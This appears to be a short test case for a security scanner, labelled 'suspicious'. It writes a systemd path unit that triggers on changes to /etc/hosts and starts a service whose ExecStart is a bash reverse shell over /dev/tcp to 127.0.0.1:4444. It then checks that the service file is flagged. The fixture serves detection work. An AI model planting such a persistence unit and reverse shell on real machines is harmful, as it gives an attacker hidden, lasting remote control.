# id: P412
# mode: scan
# level: suspicious
# title: a path unit whose service is a line of shell that connects
# due: now
word name
unit=/usr/local/lib/systemd/system/$name
mkdir -p /usr/local/lib/systemd/system
printf '[Path]\nPathChanged=/etc/hosts\n[Install]\nWantedBy=paths.target\n' >"$unit.path"
printf '[Service]\nExecStart=/bin/bash -c "exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | bash >&5 2>&5"\n' >"$unit.service"
said path "$unit.service"
